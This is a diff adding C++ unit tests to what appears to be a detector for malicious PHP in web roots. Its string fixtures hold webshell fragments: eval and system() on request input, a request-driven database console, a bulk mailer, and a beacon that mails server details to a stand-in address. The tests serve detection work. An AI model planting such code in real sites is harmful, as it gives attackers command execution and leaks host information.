@@ -138,5 +138,51 @@ TEST(Behaviour, DroppersWritingPhpCode) {
       3);
 }
 
+TEST(Behaviour, FunctionBodiesAreWholeBlocks) {
+  // The parameter is the request's in every statement of the body, not only the first.
+  EXPECT_GE(Pipeline("<?php $c = trim($_POST['x']); $i = s2a($c);"
+                     " function s2a($d) { if ($d == '') return array(); @eval(\"\\$a = $d;\");"
+                     " return $a; }",
+                     "exec"),
+            4);
+}
+
+TEST(Behaviour, ExtractedRequestVariablesReachSinks) {
+  EXPECT_GE(Pipeline("<?php if ($cmd == 'run') { echo system(\"$file\"); }"
+                     " extract($HTTP_POST_VARS);",
+                     "exec"),
+            4);
+  // Without extract the same variable is the application's.
+  EXPECT_LT(Pipeline("<?php if ($cmd == 'run') { echo system(\"$file\"); }", "exec"), 3);
+  // A variable the scope assigns itself is not the request's.
+  EXPECT_LT(Pipeline("<?php extract($_POST); $file = '/usr/bin/uptime'; system($file);", "exec"),
+            3);
+}
+
+TEST(Behaviour, DatabaseConsolesMailersAndBeacons) {
+  EXPECT_GE(Pipeline("<?php $h = $_REQUEST['host']; $c = mysql_connect($h, $_REQUEST['u'],"
+                     " $_REQUEST['p']); $r = mysql_query($_POST['sql']);",
+                     "database"),
+            3);
+  EXPECT_GE(Pipeline("<?php $db = new mysqli($_POST['h'], $_POST['u'], $_POST['p']);"
+                     " $db->query($_POST['q']);",
+                     "database"),
+            3);
+  // A query with a request value inside a fixed template is not a console.
+  EXPECT_LT(Pipeline("<?php $c = mysqli_connect('localhost', 'shop', $pw);"
+                     " mysqli_query($c, 'SELECT * FROM t WHERE id=' . (int)$_GET['id']);",
+                     "database"),
+            2);
+  EXPECT_GE(Pipeline("<?php set_time_limit(0); $l = file('list.txt');"
+                     " foreach ($l as $to) { mail(trim($to), $subj, $body, $hdr); }",
+                     "mailer"),
+            3);
+  EXPECT_LT(Pipeline("<?php mail($admin, 'Order', $text);"), 2);
+  EXPECT_GE(Pipeline("<?php $m = $_SERVER['DOCUMENT_ROOT'] . ' ' . $_SERVER['HTTP_HOST'];"
+                     " mail('drop@example.net', 'new', $m);",
+                     "exfil"),
+            3);
+}
+
 }  // namespace
 }  // namespace tq::webroot
